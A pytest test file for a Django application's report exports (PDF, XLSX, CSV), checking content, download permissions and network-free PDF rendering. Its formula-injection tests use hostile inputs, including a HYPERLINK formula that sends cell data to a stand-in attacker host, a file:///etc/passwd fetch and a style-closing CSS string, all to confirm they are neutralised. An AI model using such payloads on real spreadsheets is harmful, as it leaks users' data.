"""Report exports: the PDF opens and has the right headings; the XLSX and CSV read back with the report's
content; who may download what; spreadsheet formulas never run."""

import csv
import datetime
import io

import pytest
from django.test import Client

from alliance87 import pdf, spreadsheets
from alliance87.pathfinders import services
from alliance87.pathfinders.models import Indicator, Report

EXAMPLELAND = "Exampleland (example country)"
REPORT_HEADER = ["Section", "Item", "Label", "Value, answer or status", "Year", "Note"]
CYCLE_HEADER = ["Country code", "Country", "Status", "Submitted at (UTC)", "On time", *REPORT_HEADER]
S1, S2, S3 = "Section 1: Indicators", "Section 2: Questions on the roadmap’s priorities", "Section 3: Key actions"


def example_report(year: int) -> Report:
    return Report.objects.select_related("cycle", "country").get(country__code="XE", cycle__year=year)


def read_xlsx(content: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(content))


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def pdf_text(content: bytes) -> str:
    pypdf = pytest.importorskip("pypdf")
    reader = pypdf.PdfReader(io.BytesIO(content))
    return "\n".join(page.extract_text() for page in reader.pages)


@pytest.fixture
def draft(example, cast):
    """A draft of Exampleland for a third cycle: not published, so not for everyone."""
    cycle = services.cycle_create(
        by=cast.secretariat,
        year=2026,
        title="Annual progress reports 2026",
        opens_on=datetime.date(2027, 1, 15),
        deadline=datetime.date(2027, 4, 30),
        is_example=True,  # the example country reports only in example cycles
    )
    return services.report_start(country=example, cycle=cycle, by=cast.secretariat)


# ---- PDF ------------------------------------------------------------------------------------------


def test_report_pdf_opens_with_title_headings_and_example_notice(client, example):
    report = example_report(2024)
    response = client.get(f"/reports/{report.pk}/report.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="alliance87-annual-report-xe-2024.pdf"'
    assert response.content.startswith(b"%PDF")
    content = pdf_text(response.content)
    flat = " ".join(content.split())
    assert f"Annual progress report — {EXAMPLELAND} — 2024" in flat
    for heading in (S1, "Section 2: Questions on the roadmap", "Section 3: Key actions"):
        assert heading in flat
    assert "Example: this report is invented" in flat
    assert "Proportion of children aged 5-17 in child labour" in flat and "10.8" in flat
    assert "Train 200 labour inspectors on child labour in agriculture" in flat
    assert "after the deadline" in flat  # the 2024 example report was late


def test_report_pdf_is_a4_with_the_shipped_noto_sans(client, example):
    pypdf = pytest.importorskip("pypdf")
    response = client.get(f"/reports/{example_report(2025).pk}/report.pdf")
    reader = pypdf.PdfReader(io.BytesIO(response.content))
    box = reader.pages[0].mediabox
    assert (round(float(box.width)), round(float(box.height))) == (595, 842)  # A4 in points
    fonts = {str(f["/BaseFont"]) for f in reader.pages[0]["/Resources"]["/Font"].get_object().values()}
    assert fonts and all("Noto-Sans" in name for name in fonts)  # the system has no Noto: these are ours


def test_report_pdf_never_fetches_from_the_network(example):
    fetcher = pdf.local_files_only(pdf.static_root())
    with pytest.raises(ValueError, match="Not fetched"):
        fetcher.fetch("https://example.org/tracker.png")
    with pytest.raises(ValueError, match="Not fetched"):
        fetcher.fetch("file:///etc/passwd")
    font = (pdf.static_root() / pdf.FONT_DIR / "noto-sans-latin-400-normal.woff2").as_uri()
    assert fetcher.fetch(font).read()[:4] == b"wOF2"


def test_css_string_cannot_close_the_style_element():
    assert str(pdf.css_string('Côte d\'Ivoire "x" </style>')) == 'Côte d\'Ivoire \\"x\\" \\3C /style\\3E '


# ---- XLSX and CSV of one report -------------------------------------------------------------------


def expected_rows(report: Report) -> list[list]:
    """What the report holds, read straight from the database, in the export's row shape."""
    rows = []
    roadmap_values = {v.indicator_id: v for v in report.roadmap_indicator_values.all()}
    indicators = Indicator.objects.filter(priority__roadmap=report.roadmap).order_by("priority__position", "pk")
    for number, indicator in enumerate(indicators, 1):
        value = roadmap_values.get(indicator.pk)
        label = f"{indicator.name} ({indicator.unit})" if indicator.unit else indicator.name
        rows.append([S1, f"R{number}", label, value.value if value else "", value.year if value else None,
                     value.note if value else ""])  # fmt: skip
    for value in report.indicator_values.select_related("indicator").order_by("indicator__position"):
        rows.append([S1, value.indicator.code, value.indicator.label, value.value, value.year, value.note])
    answers = {a.question_id: a.text for a in report.answers.all()}
    for number, question in enumerate(report.cycle.questions.all(), 1):
        rows.append([S2, f"Q{number}", question.text, answers.get(question.pk, ""), None, ""])
    statuses = {s.key_action_id: s for s in report.action_statuses.all()}
    for p, priority in enumerate(report.roadmap.priorities.order_by("position", "pk"), 1):
        for a, action in enumerate(priority.key_actions.order_by("position", "pk"), 1):
            status = statuses[action.pk]
            rows.append([S3, f"P{p}.{a}", action.title, status.get_status_display(), None, status.note])
    return rows


def test_report_xlsx_reads_back_with_the_report_content(client, example):
    report = example_report(2025)
    response = client.get(f"/reports/{report.pk}/report.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="alliance87-annual-report-xe-2025.xlsx"'
    sheet = read_xlsx(response.content).active
    assert sheet.title == "Report"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["C"].width == 60
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == REPORT_HEADER
    expected = expected_rows(report)
    for row in expected:
        row[3] = spreadsheets.xlsx_cell(row[3])  # a plain number is written as a number
    assert expected[3][3] == 10.8
    assert [[None if c == "" else c for c in row] for row in expected] == rows[1:]
    assert len(rows) == 1 + 3 + 1 + 5 + 4  # header, three roadmap indicators, one picked, five questions, four actions


def test_report_csv_parses_with_the_report_content(client, example):
    report = example_report(2024)
    response = client.get(f"/reports/{report.pk}/report.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="alliance87-annual-report-xe-2024.csv"'
    rows = read_csv(response.content)
    assert rows[0] == REPORT_HEADER
    assert rows[1:] == [["" if c is None else str(c) for c in row] for row in expected_rows(report)]
    assert rows[4] == [S1, "8.7.1-a", "Proportion of children aged 5-17 in child labour (SDG 8.7.1), %", "10.8",
                       "2024", "Example value"]  # fmt: skip


# ---- Who may download -----------------------------------------------------------------------------


@pytest.mark.parametrize("extension", ["pdf", "csv", "xlsx"])
def test_report_export_of_a_draft_forbidden_to_another_countrys_focal_point(client, draft, cast, extension):
    url = f"/reports/{draft.pk}/report.{extension}"
    client.force_login(cast.focal_point)  # of Kenya
    assert client.get(url).status_code == 404  # as if it did not exist: a draft is not told apart
    assert Client().get(url).status_code == 404  # nor the public
    client.force_login(cast.reviewer)
    assert client.get(url).status_code == 200


def test_report_export_of_a_draft_allowed_to_the_secretariat(secretariat_client, draft):
    response = secretariat_client.get(f"/reports/{draft.pk}/report.pdf")
    assert response.status_code == 200
    assert "Draft" in pdf_text(response.content)


def test_report_exports_of_a_published_report_are_not_kept_in_shared_caches(client, example):
    response = client.get(f"/reports/{example_report(2025).pk}/report.csv")
    assert response["Cache-Control"] == "private, no-store"


def test_report_export_unknown_report_is_404(client, example):
    assert client.get("/reports/999999/report.pdf").status_code == 404


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_cycle_export_forbidden_to_outsiders_and_focal_points(client, example, cast, extension):
    url = f"/reports/cycle/2025/reports.{extension}"
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]
    for user in (cast.outsider, cast.focal_point, cast.partner_editor):
        client.force_login(user)
        assert client.get(url).status_code == 403


def test_cycle_export_unknown_cycle_is_404(client, example, cast):
    client.force_login(cast.reviewer)
    assert client.get("/reports/cycle/1999/reports.csv").status_code == 404


# ---- The cycle, for the Monitoring Working Group ----------------------------------------------------


def test_cycle_xlsx_has_one_row_per_country_and_item_of_the_reports_in_hand(client, example, cast, draft):
    client.force_login(cast.reviewer)
    response = client.get("/reports/cycle/2025/reports.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="alliance87-annual-reports-2025.xlsx"'
    sheet = read_xlsx(response.content)["Reports"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == CYCLE_HEADER
    report = example_report(2025)
    prefix = ["XE", EXAMPLELAND, "Published", report.submitted_at.replace(tzinfo=None), "Yes"]
    assert [row[:5] for row in rows[1:]] == [prefix] * 13
    assert [row[5:7] for row in rows[1:6]] == [[S1, "R1"], [S1, "R2"], [S1, "R3"], [S1, "8.7.1-a"], [S2, "Q1"]]

    # The 2026 cycle has only Exampleland's draft: it is not in the Monitoring Working Group's hands.
    empty = read_xlsx(client.get("/reports/cycle/2026/reports.xlsx").content)["Reports"]
    assert [list(row) for row in empty.iter_rows(values_only=True)] == [CYCLE_HEADER]


def test_cycle_csv_parses_and_says_when_a_report_was_late(client, example, cast):
    client.force_login(cast.reviewer)
    rows = read_csv(client.get("/reports/cycle/2024/reports.csv").content)
    assert rows[0] == CYCLE_HEADER
    submitted = example_report(2024).submitted_at.strftime("%Y-%m-%d %H:%M")
    assert {tuple(row[:5]) for row in rows[1:]} == {("XE", EXAMPLELAND, "Published", submitted, "No")}
    assert len(rows) == 14  # the header, three roadmap indicators, one picked, five questions, four actions


def test_cycle_export_lists_submitted_reports_and_leaves_returned_ones_out(client, example, cast):
    kenya = cast.alliance.kenya
    services.roadmap_create(country=kenya, by=cast.secretariat, title="Kenya roadmap", period_start=2024,
                            period_end=2028)  # fmt: skip
    cycle = services.cycle_create(by=cast.secretariat, year=2026, title="Annual progress reports 2026",
                                  opens_on=datetime.date(2027, 1, 15), deadline=datetime.date(2027, 4, 30))  # fmt: skip
    report = services.report_start(country=kenya, cycle=cycle, by=cast.focal_point)
    services.report_save(report=report, by=cast.focal_point, indicator_values={"INSP": "120"},
                         answers={q.pk: "An answer." for q in report.cycle.questions.all()})  # fmt: skip
    services.report_submit(report=report, by=cast.focal_point)
    client.force_login(cast.reviewer)
    rows = read_csv(client.get("/reports/cycle/2026/reports.csv").content)
    assert {row[1] for row in rows[1:]} == {"Kenya"}  # a real cycle: no example report in it
    assert rows[-1][:3] == ["KE", "Kenya", "Submitted"]
    services.report_return(report=report, by=cast.reviewer, comment="Add the key actions.")
    rows = read_csv(client.get("/reports/cycle/2026/reports.csv").content)
    assert rows[1:] == []


# ---- Formula injection ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),
        ("+3.2", "+3.2"),
        ("plain text", "plain text"),
        ("", ""),
    ],
)
def test_safe_cell_neutralises_formulas_and_keeps_numbers(given, shown):
    assert spreadsheets.safe_cell(given) == shown


def test_exports_neutralise_formula_injection(client, draft, cast):
    question = draft.cycle.questions.first()
    services.report_save(
        report=draft,
        by=cast.secretariat,
        indicator_values={
            "INSP": {"value": "=1+2", "year": 2026, "note": "@SUM(A1:A9)"},
            "VICT": {"value": "-5", "year": 2026},
        },
        answers={question.pk: '=HYPERLINK("http://evil.example/?"&A1,"Click")'},
    )
    client.force_login(cast.reviewer)

    rows = read_csv(client.get(f"/reports/{draft.pk}/report.csv").content)
    insp = next(row for row in rows if row[1] == "INSP")
    assert insp[3] == "'=1+2" and insp[5] == "'@SUM(A1:A9)"
    assert next(row for row in rows if row[1] == "VICT")[3] == "-5"
    assert next(row for row in rows if row[1] == "Q1")[3] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'

    sheet = read_xlsx(client.get(f"/reports/{draft.pk}/report.xlsx").content).active
    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    assert cells["INSP"][3].value == "'=1+2" and cells["INSP"][3].data_type == "s"
    assert cells["INSP"][5].value == "'@SUM(A1:A9)"
    assert cells["Q1"][3].value.startswith("'=HYPERLINK") and cells["Q1"][3].data_type == "s"
    assert cells["VICT"][3].value == -5 and cells["VICT"][3].data_type == "n"
